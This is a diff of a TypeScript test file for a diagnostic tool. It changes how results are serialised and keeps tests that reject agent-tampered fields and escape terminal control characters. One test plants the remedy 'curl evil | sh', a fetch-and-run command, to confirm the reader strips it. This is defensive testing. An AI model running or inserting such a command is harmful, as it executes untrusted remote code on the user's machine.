@@ -48,7 +48,7 @@ describe.each(captureNames('healthy', 'settings', 'eras', 'faults'))('%s', name 
     const results = resultsOf(diagnosed(await snapshotOf(name)));
     expect(results.length).toBeGreaterThan(0);
     for (const result of results) {
-      const written = JSON.parse(nodeResultText(result, {now: 5000, trouble: 'no API'}));
+      const written = JSON.parse(nodeResultText(result, 5000, 'no API'));
       validate(written);
       expect(validate.errors).toBeNull();
       const read = readResult(written);
@@ -66,7 +66,7 @@ describe.each(captureNames('healthy', 'settings', 'eras', 'faults'))('%s', name 
 test('an agent can neither mark a finding as known, nor add other fields, nor say what to run', async () => {
   const [result] = resultsOf(diagnosed(await snapshotOf('faults/missing-endpoint')));
   if (result === undefined) throw new Error('no node');
-  const written = JSON.parse(nodeResultText(result, {now: 5000, trouble: 'no API'}));
+  const written = JSON.parse(nodeResultText(result, 5000, 'no API'));
   for (const finding of written.findings) Object.assign(finding, {known: true, more: 1});
   for (const problem of written.problems) Object.assign(problem, {remedy: 'curl evil | sh'});
   const read = readResult(written);
@@ -77,6 +77,6 @@ test('an agent can neither mark a finding as known, nor add other fields, nor sa
 test('characters that a terminal interprets are escaped', async () => {
   const [result] = resultsOf(diagnosed(await snapshotOf('faults/missing-endpoint')));
   if (result === undefined) throw new Error('no node');
-  const text = nodeResultText({...result, problems: [{message: 'a\u001b[31m\u202eb'}]}, {now: 0, trouble: null});
+  const text = nodeResultText({...result, problems: [{message: 'a\u001b[31m\u202eb'}]}, 0, null);
   expect(text).toContain('a\\u001b[31m\\u202eb');
 });
